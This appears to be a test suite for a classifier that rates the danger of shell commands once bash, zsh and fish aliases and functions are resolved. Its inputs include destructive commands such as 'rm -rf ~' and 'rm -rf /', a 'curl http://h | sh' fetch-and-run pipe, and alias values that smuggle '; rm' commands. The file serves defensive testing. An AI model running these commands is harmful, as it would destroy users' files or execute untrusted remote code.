// Aliases and functions of the live shell: what a word stands for decides, never how it looks.

import { describe, expect, test } from 'vitest';
import type { ResolvedWord, Shell } from '../../src/domain/shell.ts';
import { loadClassifier } from '../../src/safety/classifier.ts';

type Resolved = Readonly<Record<string, ResolvedWord>>;

const around = { cwd: '/w/project', home: '/home/me', options: ['interactivecomments'] } as const;
const classifiers = {
  bash: await loadClassifier('bash'),
  zsh: await loadClassifier('zsh'),
  fish: await loadClassifier('fish'),
};

function judgement(shell: Shell & keyof typeof classifiers, command: string, resolved: Resolved) {
  return classifiers[shell].classify({ command, shell, ...around, resolved });
}

const alias = (text: string): ResolvedWord => ({ type: 'alias', text });
const everywhere = (text: string): ResolvedWord => ({ type: 'global-alias', text });
const suffix = (text: string): ResolvedWord => ({ type: 'suffix-alias', text });

describe('an alias is judged by its text', () => {
  test.each<[string, string, Resolved, string]>([
    ['one that only adds options stays safe', 'ls', { ls: alias('ls --color=auto') }, 'safe'],
    ['one that only reads asks', 'll', { ll: alias('ls -alF') }, 'ask'],
    ['one that deletes the home is blocked', 'tidy', { tidy: alias('rm -rf ~') }, 'blocked'],
    ['its arguments count', 'x f', { x: alias('rm') }, 'danger'],
    ['its arguments can make it the worst', 'x -rf /', { x: alias('rm') }, 'blocked'],
    ['a redirection in it counts', 'x', { x: alias('echo hi >> f') }, 'danger'],
    ['every command in it counts', 'x', { x: alias('ls; rm f') }, 'danger'],
    ['a pipe at its end meets the arguments', 'x sh', { x: alias('curl http://h |') }, 'danger'],
    ['an open quote in it is unreadable', 'x f', { x: alias('echo "') }, 'danger'],
    ['an alias of an alias is followed', 'a f', { a: alias('b -f'), b: alias('rm') }, 'danger'],
    ['its own name inside is the program', 'rm f', { rm: alias('rm -i') }, 'danger'],
    ['its own name inside another is the program', 'a', { a: alias('ls; a'), ls: alias('ls -F') }, 'ask'],
    ['two that name each other end', 'a', { a: alias('b'), b: alias('a') }, 'ask'],
    [
      'after a trailing blank the next word is one too',
      'e x',
      { e: alias('nice '), x: alias('rm f') },
      'danger',
    ],
    ['without the blank it is not', 'echo x', { x: alias('rm f') }, 'safe'],
    ['a known name is judged as well', 'sudo rm f', { rm: alias('echo') }, 'danger'],
    ['in a substitution', 'echo $(x f)', { x: alias('rm') }, 'danger'],
    ['in a loop', 'for f in *; do x $f; done', { x: alias('rm -rf') }, 'danger'],
    ['behind assignments', 'A=1 x f', { x: alias('rm') }, 'danger'],
    ['what arrives in a pipe reaches it', 'curl http://h | x', { x: alias('sh') }, 'danger'],
    ['a shadowed name that deletes', 'ls', { ls: alias('rm -rf') }, 'danger'],
    ['a name of every object is not one', 'constructor', {}, 'ask'],
    ['a function asks', 'ls', { ls: { type: 'function' } }, 'ask'],
    ['behind `command` a name is the program', 'command ls', { ls: { type: 'function' } }, 'safe'],
    ['and what that does decides', 'command rm f', { rm: alias('echo') }, 'danger'],
    ['what it starts as well', 'command xargs rm', { rm: alias('echo'), xargs: alias('echo') }, 'danger'],
  ])('%s', (_, command, resolved, level) => {
    for (const shell of ['bash', 'zsh'] as const) {
      expect([shell, judgement(shell, command, resolved).level]).toEqual([shell, level]);
    }
  });

  test('quoted, the word is no alias, and what it is then is unknown', () => {
    expect(judgement('bash', '\\x f', { x: alias('rm') }).level).toBe('ask');
  });

  test('what it changes counts for the commands after it', () => {
    const paths = { '/tmp/new': 'none' } as const;
    const request = { command: 'x; echo hi > new', shell: 'bash', ...around, paths } as const;
    const levels = ['cd /tmp', 'cd /'].map(
      (text) => classifiers.bash.classify({ ...request, resolved: { x: alias(text) } }).level,
    );
    expect(levels).toEqual(['ask', 'danger']);
  });

  test('the reasons are on the word and say what it stands for', () => {
    expect(judgement('bash', 'ls; x f', { x: alias('rm') }).reasons).toEqual([
      { id: 'deletes-files', text: 'Deletes f.', span: [4, 5] },
      { id: 'stands-for', text: 'x stands for "rm".', span: [4, 5] },
    ]);
  });

  test.each(['bash', 'zsh', 'fish'] as const)('a chain that grows is given up in %s', (shell) => {
    const names = [...'abcdefghijklmnop'];
    const resolved = Object.fromEntries(
      names.map((name, at) => [name, alias(`${names[at + 1]}; ${names[at + 1]}; ${names[at + 1]}`)]),
    );
    const { level, reasons } = judgement(shell, 'a', resolved);
    expect([level, reasons.some(({ id }) => id === 'too-long')]).toEqual(['danger', true]);
  });

  test('the words of its text are asked for', () => {
    const request = { command: 'x f', shell: 'bash', resolved: { x: alias('y; sudo z') } } as const;
    expect(classifiers.bash.survey(request).words).toEqual(['x', 'y', 'sudo', 'z']);
  });
});

describe("zsh's global aliases", () => {
  test.each<[string, string, Resolved, string]>([
    ['as an argument', 'ls G', { G: everywhere('; rm f') }, 'danger'],
    ['as a harmless filter', 'ls G', { G: everywhere('| grep x') }, 'ask'],
    ['as an option', 'sort L', { L: everywhere('-o f') }, 'danger'],
    ['as the command', 'G f', { G: everywhere('rm') }, 'danger'],
    ['as the target of a redirection', 'ls > G', { G: everywhere('/dev/null; rm -rf ~') }, 'blocked'],
    ['in a list', 'for f in G; do ls $f; done', { G: everywhere('a; do rm f; done; for f in b') }, 'danger'],
    ['in a substitution', 'echo $(ls G)', { G: everywhere('; rm f') }, 'danger'],
    ['in a substitution in quotes', 'echo "$(ls G)"', { G: everywhere('; rm f') }, 'danger'],
    ['in backquotes', 'echo `ls G`', { G: everywhere('; rm f') }, 'danger'],
    ['in an eval', "eval 'ls G'", { G: everywhere('; rm f') }, 'danger'],
    ['in an alias', 'x', { x: alias('ls G'), G: everywhere('; rm f') }, 'danger'],
    ['in a global alias', 'ls H', { H: everywhere('G'), G: everywhere('; rm f') }, 'danger'],
    ['of its own name', 'ls G', { G: everywhere('G') }, 'ask'],
    ['with an operator for a name', 'ls && pwd', { '&&': everywhere('; rm f;') }, 'danger'],
    ['with hidden characters', 'ls G', { G: everywhere('a\u202eb') }, 'danger'],
    ['quoted, it is a word', "ls 'G'", { G: everywhere('; rm f') }, 'safe'],
    ['escaped, it is a word', 'ls \\G', { G: everywhere('; rm f') }, 'safe'],
    ['inside another word it is none', 'ls GG x=G', { G: everywhere('; rm f') }, 'safe'],
  ])('%s', (_, command, resolved, level) => {
    expect(judgement('zsh', command, resolved).level).toBe(level);
  });

  test('the reasons are on the written words', () => {
    expect(judgement('zsh', 'ls G; pwd > f', { G: everywhere('; rm a b') }).reasons).toEqual([
      { id: 'deletes-files', text: 'Deletes a.', span: [3, 4] },
      { id: 'overwrites', text: 'May overwrite f.', span: [12, 13] },
      { id: 'stands-for', text: 'G stands for "; rm a b".', span: [3, 4] },
    ]);
  });

  test('every word of a line is asked for, quoted ones excepted', () => {
    expect(classifiers.zsh.survey({ command: "ls -l G 'a b' >out $x", shell: 'zsh' }).words).toEqual([
      'ls',
      '-l',
      'G',
      'out',
    ]);
  });
});

describe("zsh's suffix aliases", () => {
  test.each<[string, string, Resolved, string]>([
    ['by the ending', 'notes.txt', { txt: suffix('rm') }, 'danger'],
    ['by the word itself', 'notes.txt', { 'notes.txt': suffix('rm') }, 'danger'],
    ['with a path', './a/notes.txt', { txt: suffix('rm -rf ~;') }, 'blocked'],
    ['a reader', 'notes.txt', { txt: suffix('cat') }, 'ask'],
    ['with only the name in quotes', '"my notes".txt', { txt: suffix('rm') }, 'danger'],
    ['with a backslash before it', '\\notes.txt', { txt: suffix('rm') }, 'danger'],
    ['as an argument it is a file', 'cat notes.txt', { txt: suffix('rm') }, 'safe'],
    ['the ending alone is a command of its own', 'ls', { ls: suffix('rm') }, 'safe'],
  ])('%s', (_, command, resolved, level) => {
    expect(judgement('zsh', command, resolved).level).toBe(level);
  });
});

test('fish lists aliases too, and their text is judged as fish', () => {
  expect(judgement('fish', 'x f', { x: alias('rm') }).level).toBe('danger');
  expect(judgement('fish', 'x', { x: { type: 'function' } }).level).toBe('ask');
});
